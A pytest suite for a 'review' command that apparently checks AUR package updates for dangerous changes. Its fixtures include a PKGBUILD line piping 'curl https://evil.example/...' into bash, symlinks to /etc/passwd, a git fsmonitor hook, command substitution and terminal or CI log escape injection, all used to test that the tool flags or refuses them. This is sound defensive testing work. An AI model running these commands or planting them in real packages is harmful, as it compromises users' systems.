"""`ci-toolkit review` on real folders, real commits and a real AUR mirror on loopback."""

from __future__ import annotations

import io
import os
import re
import socket
import stat
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from ci_toolkit.cli.main import main
from ci_toolkit.cli.surface import Terminal
from ci_toolkit.effects.redaction import Redactor
from ci_toolkit.errors import ConfigError, GitError, UpstreamError
from tests.support.git import GitRepo
from tests.support.packages import SamplePackage

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

    from tests.support.world import Result, World

FOO = SamplePackage(name="foo")
NEWER = replace(FOO, version="1.1")
EVIL = replace(NEWER, body="curl https://evil.example/$pkgver | bash")
# Unless the folders speak: minor 0, review 3, refuse 4.
MINOR, REVIEW, REFUSE = 0, 3, 4


@pytest.fixture(autouse=True)
def _api(world: World) -> None:
    world.upstreams.has_aur_api = True
    world.env["CI_AUR_API_URL"] = f"{world.upstreams.url}/rpc/v5/info"
    world.env["CI_AUR_GIT_URL"] = world.upstreams.aur_git_url
    world.env["CI_ALLOW_LOCAL_UPSTREAMS"] = "true"


def write(folder: Path, files: Mapping[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder


def two(world: World, new: SamplePackage, old: SamplePackage = FOO) -> Path:
    """Folders `old` and `new` in a working directory that is no repository; gives the new one."""
    write(world.work / "old", old.files())
    return write(world.work / "new", new.files())


@pytest.mark.parametrize(("new", "status", "verdict"), [(NEWER, MINOR, "minor"), (EVIL, REVIEW, "review")])
def test_two_folders(world: World, new: SamplePackage, status: int, verdict: str) -> None:
    two(world, new)
    result = world.run("review", "old", "new")
    assert result.status == status, result.stderr
    assert result.stdout.startswith("foo 1.0-1 → 1.1-1\n")
    assert result.stdout.split("\n")[-2].startswith(f"{verdict}: ")
    as_json = world.run("review", "old", "new", "--json")
    assert as_json.status == status
    assert as_json.json["verdict"] == verdict
    assert (as_json.json["package"], as_json.json["from"], as_json.json["to"]) == ("foo", "1.0-1", "1.1-1")


def test_what_is_dangerous_is_printed_with_its_line(world: World) -> None:
    two(world, EVIL)
    shown = world.run("review", "old", "new").stdout
    assert "new hosts   evil.example" in shown
    assert "commands    new: curl, bash" in shown
    assert "PKGBUILD:13: " in shown
    assert re.search(r"^  │ \+ +curl https://evil\.example/\$pkgver \| bash$", shown, re.MULTILINE)
    finding = world.run("review", "old", "new", "--json").json["findings"][0]
    assert finding["file"] == "PKGBUILD"
    assert finding["line"] == 13
    assert finding["rule"]
    assert finding["text"]
    assert finding["severity"] in ("low", "medium", "high", "critical")


def test_nothing_of_a_folder_is_run_or_changed(world: World) -> None:
    new = two(world, EVIL)
    marker = world.folder / "marker"
    (new / "PKGBUILD").write_text(f"touch {marker}\n$(touch {marker})\n" + NEWER.pkgbuild())
    (new / ".git").mkdir()
    (new / ".git/config").write_text(
        f"[core]\n\tfsmonitor = touch {marker}\n\trepositoryformatversion = 0\n\tbare = false\n"
    )
    (new / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (new / ".git/objects").mkdir()
    (new / ".git/refs").mkdir()
    before = {path: path.stat().st_mtime_ns for path in world.work.rglob("*")}
    assert world.run("review", "old", "new").status == REVIEW
    assert not marker.exists()
    assert {path: path.stat().st_mtime_ns for path in world.work.rglob("*")} == before


def a_link_out(folder: Path) -> None:
    (folder / "link").symlink_to("/etc/passwd")


def a_pipe(folder: Path) -> None:
    os.mkfifo(folder / "link")


def a_pipe_for_pkgbuild(folder: Path) -> None:
    (folder / "PKGBUILD").unlink()
    os.mkfifo(folder / "PKGBUILD")


def a_socket(folder: Path) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        here = os.open(folder, os.O_RDONLY)
        try:
            server.bind(f"/proc/self/fd/{here}/link")
        finally:
            os.close(here)


def a_device(folder: Path) -> None:
    try:
        os.mknod(folder / "link", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except PermissionError:
        pytest.skip("only root may make devices")


def a_huge_file(folder: Path) -> None:
    with (folder / "link").open("wb") as file:
        file.truncate(600 << 20)


def a_deep_folder(folder: Path) -> None:
    (folder / "/".join("d" * 40)).mkdir(parents=True)


def many_files(folder: Path) -> None:
    for number in range(2_100):
        (folder / f"f{number}").touch()


def gitattributes(folder: Path) -> None:
    (folder / ".gitattributes").write_text("* filter=x\n")


def an_odd_name(folder: Path) -> None:
    (folder / "a\nlink\x1b[31m").touch()


def a_name_of_bytes(folder: Path) -> None:
    with open(os.fsencode(folder) + b"/\xff", "wb"):  # noqa: PTH123 - a name that is no text
        pass


def a_link_to_a_folder(folder: Path) -> None:
    (folder / "sub").symlink_to("/etc")


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (a_link_out, "'link' is a link that leaves the folder"),
        (a_link_to_a_folder, "'sub' is a link that leaves the folder"),
        (a_pipe, "link is a named pipe"),
        (a_pipe_for_pkgbuild, "PKGBUILD is a named pipe"),
        (a_socket, "link is a socket"),
        (a_device, "link is a device"),
        (a_huge_file, "link is too large (600 MiB)"),
        (a_deep_folder, "is nested too deeply"),
        (many_files, "has more than 2000 files"),
        (gitattributes, "'.gitattributes' would change how git works"),
        (an_odd_name, "has a name with characters that names do not have"),
        (a_name_of_bytes, "has a name with characters that names do not have"),
    ],
)
def test_folders_that_must_not_be_taken_are_refused(world: World, spoil: Callable[[Path], None], said: str) -> None:
    spoil(two(world, NEWER))
    result = world.run("review", "old", "new")
    assert result.status == REFUSE, result.stdout + result.stderr
    assert said in " ".join(result.stdout.split())
    assert "refuse: do not take it" in result.stdout
    assert "\x1b" not in result.stdout
    as_json = world.run("review", "old", "new", "--json").json
    assert as_json["verdict"] == as_json["severity"] == "refuse"


def test_a_link_inside_the_folder_is_read_as_a_link(world: World) -> None:
    new = two(world, NEWER)
    (new / "LICENSE").write_text("secret\n")
    (new / "COPYING").symlink_to("LICENSE")
    assert world.run("review", "old", "new").status == REVIEW


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("old", "nwe"), "no such folder"),
        (("old", "nwe"), "did you mean new?"),
        (("old", "./new/PKGBUILD"), "no such folder"),
        (("old", "."), "is no package folder: it has no PKGBUILD"),
        (("main:foo", "new"), "no git repository here with such a commit: 'main:foo'"),
        (("./nwe",), "did you mean new?"),
    ],
)
def test_wrong_arguments_are_answered_with_what_is_wrong(world: World, arguments: tuple[str, ...], said: str) -> None:
    two(world, NEWER)
    result = world.run("review", *arguments)
    assert result.status == ConfigError.exit_status
    assert said in result.stderr
    assert result.stdout == ""


def test_a_refused_old_version_is_nothing_to_compare_with(world: World) -> None:
    two(world, NEWER)
    os.mkfifo(world.work / "old/pipe")
    result = world.run("review", "old", "new")
    assert result.status == ConfigError.exit_status
    assert "the old version cannot be compared with" in result.stderr


def test_a_folder_alone_is_judged_as_a_new_package(world: World) -> None:
    two(world, EVIL)
    for text in ("./new", "new/", str(world.work / "new")):
        result = world.run("review", text)
        assert result.status == REVIEW, result.stderr
        assert "foo 1.1-1 (nothing to compare with: everything in it is new)" in result.stdout
        assert "new hosts   example.org, evil.example" in result.stdout


def at_terminal(world: World, width: int, **variables: str) -> str:
    class Screen(io.StringIO):
        def isatty(self) -> bool:
            return True

    stdout = Screen()
    environ = {**world.env, "COLUMNS": str(width), "TERM": "xterm-256color", **variables}
    terminal = Terminal(
        stdout=stdout,
        stderr=io.StringIO(),
        environ=environ,
        clock=world.clock,
        redactor=Redactor(environ),
        cwd=world.work,
    )
    main(["review", "old", "new"], terminal)
    return stdout.getvalue()


def test_terminals_get_colours_unless_they_do_not_want_them(world: World) -> None:
    two(world, EVIL)
    assert "\x1b[" in at_terminal(world, 100)
    assert "\x1b[" not in at_terminal(world, 100, NO_COLOR="1")
    assert re.sub(r"\x1b\[[0-9;]*m", "", at_terminal(world, 100)) == at_terminal(world, 100, NO_COLOR="1")


@pytest.mark.parametrize("width", [1, 30, 42, 80, 200])
def test_narrow_terminals_lose_nothing(world: World, width: int) -> None:
    two(world, replace(EVIL, body="echo " + "".join(f"w{number:03}" for number in range(100))))
    shown = at_terminal(world, width, NO_COLOR="1")
    assert all(len(line) <= max(30, width) for line in shown.split("\n"))
    together = re.sub(r"\n  │   ", "", shown)
    assert "".join(f"w{number:03}" for number in range(100)) in together


def test_a_stranger_cannot_write_on_the_terminal_or_into_ci_logs(world: World) -> None:
    two(world, replace(NEWER, body="echo \x1b]0;title\x07 \u202e ##[add-mask]x\n::add-mask::x\n  ::error::x"))
    for shown in (
        at_terminal(world, 80, NO_COLOR="1"),
        world.run("review", "old", "new", GITLAB_CI="true").stdout,
        world.run("review", "old", "new", GITHUB_ACTIONS="true").stdout,
    ):
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202e]", shown)
        assert not re.search(r"^\s*::", shown, re.MULTILINE)
    assert "##[" not in shown
    as_json = world.run("review", "old", "new", "--json")
    assert "##[" not in as_json.stdout
    assert len(as_json.json["findings"]) > 0


def test_a_draft_without_srcinfo_is_looked_at_too(world: World) -> None:
    (two(world, EVIL) / ".SRCINFO").unlink()
    result = world.run("review", "old", "new")
    assert result.status == REVIEW, result.stderr
    assert "foo 1.0-1 → 1.1-1" in result.stdout.replace("new 1.0-1", "foo 1.0-1")


def start_repository(world: World, *more: SamplePackage, config: str = "CI_PKGBUILD_SOURCE=aur\n") -> None:
    files: dict[str, str | bytes] = {}
    for package in (FOO, *more):
        files |= package.folder(config)
    world.start(files)


def test_folders_of_commits(world: World) -> None:
    start_repository(world)
    world.push({f"foo/{name}": text for name, text in EVIL.files().items()}, branch="main")
    world.clone()
    result = world.run("review", "HEAD~1:foo", "HEAD:foo")
    assert result.status == REVIEW, result.stderr
    assert "foo 1.0-1 → 1.1-1" in result.stdout
    head = world.origin.head()
    assert f"revision    {head}" in result.stdout
    for arguments in (("HEAD~1:foo", "foo"), ("HEAD~1", "HEAD:foo"), ("HEAD~1:foo", "main"), ("HEAD~1:foo/", "./foo")):
        assert world.run("review", *arguments).stdout.startswith("foo 1.0-1 → 1.1-1"), arguments
    same = world.run("review", "HEAD:foo", "foo")
    assert same.status == MINOR
    assert "foo 1.1-1 (the same version)" in same.stdout


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("HEAD:fooo", "HEAD:foo"), "has no such folder: 'fooo' (did you mean foo?)"),
        (("HEAD", "HEAD"), "HEAD: is no package folder: it has no PKGBUILD (write HEAD:PACKAGE"),
        (("nothing:foo", "HEAD:foo"), "no such commit: 'nothing'"),
        (("--", "--all", "HEAD:foo"), "no such commit: '--all'"),
        (("HEAD:foo/PKGBUILD", "HEAD:foo"), "no such folder: 'foo/PKGBUILD'"),
        (("HEAD:../..", "HEAD:foo"), "no such folder"),
    ],
)
def test_wrong_commits_are_answered_with_what_is_wrong(world: World, arguments: tuple[str, ...], said: str) -> None:
    start_repository(world)
    result = world.run("review", *arguments)
    assert result.status == ConfigError.exit_status, result.stdout
    assert said in result.stderr


def test_commits_of_a_packages_own_repository(world: World) -> None:
    repository = GitRepo.bare(world.folder / "clone.git", world.env)
    old = repository.commit(FOO.files())
    repository.commit(EVIL.files())
    world.work = repository.path
    result = world.run("review", old, "main")
    assert result.status == REVIEW, result.stderr
    assert "foo 1.0-1 → 1.1-1" in result.stdout


def test_a_commit_that_must_not_be_taken_is_refused(world: World) -> None:
    start_repository(world)
    world.origin.commit({"foo/x": "/etc/passwd"}, modes={"foo/x": "120000"})
    world.clone()
    result = world.run("review", "HEAD~1:foo", "HEAD:foo")
    assert result.status == REFUSE, result.stderr
    assert "'x' is a link that leaves the folder" in result.stdout


def test_an_aur_package_outside_of_a_repository(world: World) -> None:
    world.work.mkdir()
    commit = world.upstreams.publish("foo", EVIL.files(), maintainer="mallory")
    result = world.run("review", "foo")
    assert result.status == REVIEW, result.stderr
    assert "foo 1.1-1 (nothing to compare with: everything in it is new)" in result.stdout
    assert "maintainer  mallory\n" in result.stdout
    assert f"revision    {commit}" in result.stdout
    assert f"https://aur.archlinux.org/cgit/aur.git/commit/?h=foo&id={commit}" in result.stdout
    assert result.stderr == ""


def test_it_needs_no_home_for_that(world: World) -> None:
    world.work.mkdir()
    world.upstreams.publish("foo", FOO.files())
    world.env.pop("HOME")
    world.env.pop("XDG_CACHE_HOME")
    assert world.run("review", "foo").status == REVIEW


def test_a_package_of_another_base_is_found(world: World) -> None:
    world.work.mkdir()
    world.upstreams.publish("foo", FOO.files())
    world.upstreams.aur_packages["foo"].names = ("libfoo", "foo-tools")
    result = world.run("review", "foo-tools", "--json")
    assert result.json["package"] == "foo", result.stderr


def test_an_aur_that_has_no_such_package_says_so(world: World) -> None:
    world.work.mkdir()
    result = world.run("review", "nothing-there")
    assert result.status == ConfigError.exit_status
    assert "the AUR has no such package: 'nothing-there'" in result.stderr
    (world.work / "nothing-there").mkdir()
    assert "write ./nothing-there for the folder" in world.run("review", "nothing-there").stderr


def test_an_aur_that_cannot_be_asked_is_no_missing_package(world: World) -> None:
    world.work.mkdir()
    world.upstreams.publish("foo", FOO.files())
    world.upstreams.fail(lambda seen: seen.path.startswith("/aur.git"), status=503)
    result = world.run("review", "foo")
    assert result.status == UpstreamError.exit_status
    assert "503" in result.stderr
    assert "no such package" not in result.stderr


def test_who_maintains_a_package_may_stay_unknown(world: World) -> None:
    world.work.mkdir()
    world.upstreams.publish("foo", FOO.files())
    world.upstreams.has_aur_api = False
    result = world.run("review", "foo")
    assert result.status == REVIEW
    assert "who maintains foo is not known" in result.stderr
    assert "maintainer" not in result.stdout


def test_a_mirror_that_is_behind_is_mentioned(world: World) -> None:
    world.work.mkdir()
    world.upstreams.publish("foo", FOO.files())
    world.upstreams.aur_packages["foo"].modified_s += 86_400
    assert "announces a later change of foo than its mirror has" in world.run("review", "foo").stderr
    del world.upstreams.aur_packages["foo"]
    world.upstreams.publish("bar", FOO.files())
    world.upstreams.aur.git("update-ref", "-d", "refs/heads/bar")
    result = world.run("review", "bar")
    assert result.status == UpstreamError.exit_status
    assert "does not yet" in result.stderr


def test_an_aur_package_that_must_not_be_taken_is_refused(world: World) -> None:
    world.work.mkdir()
    world.upstreams.publish("foo", {**FOO.files(), "x": "/etc/passwd"}, modes={"x": "120000"})
    result = world.run("review", "foo")
    assert result.status == REFUSE
    assert "'x' is a link that leaves the folder" in result.stdout


def test_in_a_repository_the_aur_is_compared_with_what_is_there(world: World) -> None:
    start_repository(world)
    world.upstreams.publish("foo", EVIL.files())
    result = world.run("review", "foo/")
    assert result.status == REVIEW, result.stderr
    assert "foo 1.0-1 → 1.1-1" in result.stdout
    assert "commands    new: curl, bash" in result.stdout
    world.upstreams.publish("foo", NEWER.files())
    assert world.run("review", "foo").status == MINOR


def test_in_a_repository_a_package_that_it_does_not_have_is_new(world: World) -> None:
    start_repository(world)
    world.upstreams.publish("bar", replace(FOO, name="bar").files())
    assert "bar 1.0-1 (nothing to compare with" in world.run("review", "bar").stdout
    missing = world.run("review", "fooo")
    assert missing.status == ConfigError.exit_status
    assert "the AUR has no such package: 'fooo' (did you mean foo?)" in missing.stderr


def test_a_package_that_does_not_come_from_the_aur_is_not_compared_with_it(world: World) -> None:
    start_repository(world, config="CI_PKGBUILD_SOURCE=custom\n")
    world.upstreams.publish("foo", EVIL.files())
    result = world.run("review", "foo")
    assert result.status == ConfigError.exit_status
    assert "foo: has no open review, and its updates come from custom" in result.stderr


def test_the_open_review_of_a_package(world: World) -> None:
    start_repository(world)
    commit = world.upstreams.publish("foo", EVIL.files())
    world.run("on-schedule")
    assert world.origin.head("update-foo")
    refs = world.origin.refs()
    # What the AUR has now is another matter: the review is about what is on its branch.
    world.upstreams.publish("foo", replace(EVIL, version="1.2").files())
    result = world.run("review", "foo")
    assert result.status == REVIEW, result.stderr
    assert "foo 1.0-1 → 1.1-1" in result.stdout
    assert f"revision    {commit}" in result.stdout
    assert "branch      update-foo → main\n" in result.stdout
    assert "curl" in result.stdout
    assert world.origin.refs() == refs


def test_another_kind_of_repository_is_no_package_repository(world: World) -> None:
    world.upstreams.publish("foo", FOO.files())
    other = GitRepo.bare(world.folder / "other.git", world.env)
    other.commit({"README": "x"})
    world.work = other.path
    assert "foo 1.0-1 (nothing to compare with" in world.run("review", "foo").stdout


def test_a_repository_that_was_named_has_to_be_one(world: World) -> None:
    world.work.mkdir()
    result = world.run("review", "foo", "--repository", str(world.work))
    assert result.status == GitError.exit_status
    assert "is in no git repository" in result.stderr


def test_secrets_stay_hidden(world: World) -> None:
    secret = "glpat-canary-0123456789"
    two(world, replace(NEWER, body=f"echo {secret}"))
    outputs: list[Result] = [
        world.run("review", "old", "new", *options, ACCESS_TOKEN=secret) for options in ((), ("--json",))
    ]
    assert all(secret not in result.stdout + result.stderr for result in outputs)
